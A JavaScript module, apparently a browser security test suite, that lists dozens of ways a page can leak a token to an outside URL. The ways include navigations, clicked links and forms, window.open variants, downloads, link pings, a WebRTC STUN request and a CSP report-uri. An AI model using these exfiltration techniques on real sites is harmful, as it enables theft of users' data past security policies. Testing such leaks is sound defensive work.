// Ways to send by going somewhere, by opening a window and by downloading. Each is tried by itself, for a navigation
// that has begun would end the one before it.

import { group } from "./group.mjs";

const click = (to, properties) => to.add("a", { href: to.url, textContent: "leak", ...properties }).click();
const form = (to, properties = {}) => {
  const node = to.add("form", { action: to.url, method: "post", ...properties });
  node.append(Object.assign(document.createElement("input"), { name: "leak", value: to.token }));
  return node;
};

export const navigation = group({ click, form }, {
  location: (to) => (window.location = to.url),
  "location by a name": (to) => (location.href = to.named),
  "location.href": (to) => (location.href = to.url),
  "location.assign": (to) => location.assign(to.url),
  "location.replace": (to) => location.replace(to.url),
  "location of the page's own server": (to) => (location.href = to.own),
  "document.location": (to) => (document.location = to.url),
  "location.search": (to) => (location.search = `?${to.token}`),
  "top.location": (to) => (top.location = to.url),
  "top.location.replace": (to) => top.location.replace(to.url),
  "parent.location": (to) => (parent.location.href = to.url),
  "navigation.navigate": (to) => window.navigation.navigate(to.url),
  "navigation of the top": (to) => top.navigation.navigate(to.url),
  "history.pushState and reload": (to) => {
    history.pushState(null, "", to.own);
    location.reload();
  },
  "fragment and window.name": (to) => {
    window.name = to.token;
    location.hash = to.token;
    location.href = to.url;
  },
  "javascript: URL": (to) => (location.href = `javascript:void fetch(${JSON.stringify(to.url)})`),
  "data: URL": (to) => (location.href = `data:text/html,<img src="${to.url}">`),
  "blob: URL": (to) => (location.href = to.blob(`<img src="${to.url}">`, "text/html")),
  "meta refresh": (to) => to.head(`<meta http-equiv="refresh" content="0; url=${to.url}">`),
  "meta refresh in the body": (to) => to.html(`<meta http-equiv="refresh" content="0; url=${to.url}">`),
  "document.open with a refresh": (to) => {
    document.open();
    document.write(`<meta http-equiv="refresh" content="0; url=${to.url}"><img src="${to.url}">`);
    document.close();
  },
  "link clicked": (to) => click(to),
  "link clicked, by a name": (to) => click(to, { href: to.named }),
  "link clicked, _self": (to) => click(to, { target: "_self" }),
  "link clicked, _top": (to) => click(to, { target: "_top" }),
  "link clicked, _parent": (to) => click(to, { target: "_parent" }),
  "link clicked, _unfencedTop": (to) => click(to, { target: "_unfencedTop" }),
  "link with ping": (to) => click(to, { href: "javascript:void 0", ping: to.url }),
  "link with attributionsrc": (to) => {
    const link = to.html(`<a href="javascript:void 0" attributionsrc="${to.url}">leak</a>`);
    link.firstChild.click();
  },
  "link by a base": (to) => {
    const base = to.add("base", { href: to.url });
    const link = to.add("a", { textContent: "leak" });
    link.setAttribute("href", to.token);
    link.click();
    base.remove();
  },
  "link made by execCommand": (to) => {
    const box = to.add("div", { textContent: "leak" });
    box.contentEditable = "true";
    getSelection().selectAllChildren(box);
    document.execCommand("createLink", false, to.url);
    box.contentEditable = "false";
    box.querySelector("a").click();
  },
  "svg link": (to) => {
    const box = to.html(`<svg xmlns="http://www.w3.org/2000/svg"><a href="${to.url}"><text>leak</text></a></svg>`);
    box.querySelector("a").dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
  },
  area: (to) => {
    const box = to.html(`<map name="leak"><area href="${to.url}" shape="default"></map><img usemap="#leak" src="data:,">`);
    box.querySelector("area").click();
  },
  "form GET": (to) => form(to, { method: "get" }).submit(),
  "form POST": (to) => form(to).submit(),
  "form POST, _top": (to) => form(to, { target: "_top" }).submit(),
  "form POST, _parent": (to) => form(to, { target: "_parent" }).submit(),
  "form, requestSubmit": (to) => form(to).requestSubmit(),
  "form, formaction": (to) => {
    const button = form(to, { action: "javascript:void 0" }).appendChild(document.createElement("button"));
    button.setAttribute("formaction", to.url);
    button.click();
  },
  "form, by the form attribute": (to) => {
    form(to, { id: "leak-form-attribute" });
    const button = to.add("button", { textContent: "leak" });
    button.setAttribute("form", "leak-form-attribute");
    button.click();
  },
  "form, image button": (to) => {
    const button = form(to).appendChild(Object.assign(document.createElement("input"), { type: "image" }));
    button.click();
  },
  "form, dialog that posts": (to) => {
    const box = to.html(`<dialog open><form method="dialog"><button formmethod="post" formaction="${to.url}">x</button></form></dialog>`);
    box.querySelector("button").click();
  },
  "form POST by a name": (to) => form(to, { action: to.named }).submit(),
  "download by a name": (to) => click(to, { href: to.named, download: "leak" }),
  "top.location by a name": (to) => (top.location.href = to.named),
  "window.open by a name": (to) => window.open(to.named),
  download: (to) => click(to, { download: "leak" }),
  "download, _blank": (to) => click(to, { download: "leak", target: "_blank" }),
  "download of the page's own server": (to) => click(to, { href: to.own, download: "leak" }),
  "link clicked, _blank": (to) => click(to, { target: "_blank" }),
  "link clicked, noopener": (to) => click(to, { target: "_blank", rel: "noopener noreferrer" }),
  "link clicked, a name": (to) => click(to, { target: "leak-window" }),
  "form POST, _blank": (to) => form(to, { target: "_blank" }).submit(),
  "form POST, a name": (to) => form(to, { target: "leak-window" }).submit(),
  "window.open": (to) => window.open(to.url),
  "window.open, _self": (to) => window.open(to.url, "_self"),
  "window.open, _top": (to) => window.open(to.url, "_top"),
  "window.open, _parent": (to) => window.open(to.url, "_parent"),
  "window.open, a name": (to) => window.open(to.url, "leak-named"),
  "window.open, popup": (to) => window.open(to.url, "_blank", "popup,width=100,height=100"),
  "window.open, noopener": (to) => window.open(to.url, "_blank", "noopener"),
  "window.open, then its location": (to) => (window.open("").location = to.url),
  "window.open, then its fetch": (to) => window.open("").fetch(to.url, { mode: "no-cors" }),
  "window.open, then write": (to) => window.open("").document.write(`<img src="${to.url}">`),
  "window.open of a blob": (to) => window.open(to.blob(`<img src="${to.url}">`, "text/html")),
  "window.open of a data URL": (to) => window.open(`data:text/html,<img src="${to.url}">`),
  "window.open, then RTCPeerConnection": async (to) => {
    const connection = new (window.open("").RTCPeerConnection)({ iceServers: [{ urls: `stun:${to.host}` }] });
    connection.createDataChannel("leak");
    await connection.setLocalDescription(await connection.createOffer());
  },
  "picture-in-picture window": async (to) => {
    const other = await window.documentPictureInPicture.requestWindow();
    other.document.body.innerHTML = `<img src="${to.url}">`;
  },
  // The last one: no picture is shown any more afterwards.
  "a policy that reports": (to) => {
    to.head(`<meta http-equiv="Content-Security-Policy" content="img-src https:; report-uri ${to.url}">`);
    to.add("img", { src: "data:," });
  },
});
